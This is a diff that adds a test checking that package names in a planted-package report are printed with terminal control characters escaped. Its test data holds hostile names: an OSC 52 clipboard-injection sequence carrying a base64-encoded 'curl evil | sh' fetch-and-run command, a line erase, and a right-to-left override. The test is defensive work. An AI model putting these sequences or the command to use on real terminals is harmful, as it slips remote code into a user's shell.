@@ -147,6 +147,20 @@ t.test('twenty-second pass: a file planted behind fifty decoys is still in the r
   t.ok(report.split('\n').length < 60, `the report stays short (${report.split('\n').length} lines)`);
 });
 
+t.test('twenty-second pass: package names the report quotes in a line are printed escaped (no terminal control reaches the user\'s terminal)', async (t) => {
+  const work = tempDir(t, 'hunt22-sandbox-esc-');
+  const write = writer(work);
+  const since = await tick();
+  // Six packages changed (one line for the folder, quoting three names): the first names carry an
+  // OSC 52 (the terminal puts its text on the clipboard, pasted into a shell later), an erase of
+  // the line and a return, and a right-to-left override.
+  const evil = ['\u001b]52;c;Y3VybCBldmlsIHwgc2gK\u0007a', '\u001b[2K\rb', '\u202ec', 'd', 'e', 'f'];
+  for (const n of evil) write(`node_modules/${n}/index.js`, AGENT);
+  const report = plantedReport(plantedSince(since, '', work), '', work).join('\n');
+  t.match(report, /6 packages changed/, 'the folder is named');
+  t.notMatch(report, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'with no control character');
+});
+
 t.test('an install of many packages during the run is named as one line per folder', async (t) => {
   const work = tempDir(t, 'hunt18-sandbox-deps-');
   const write = writer(work);
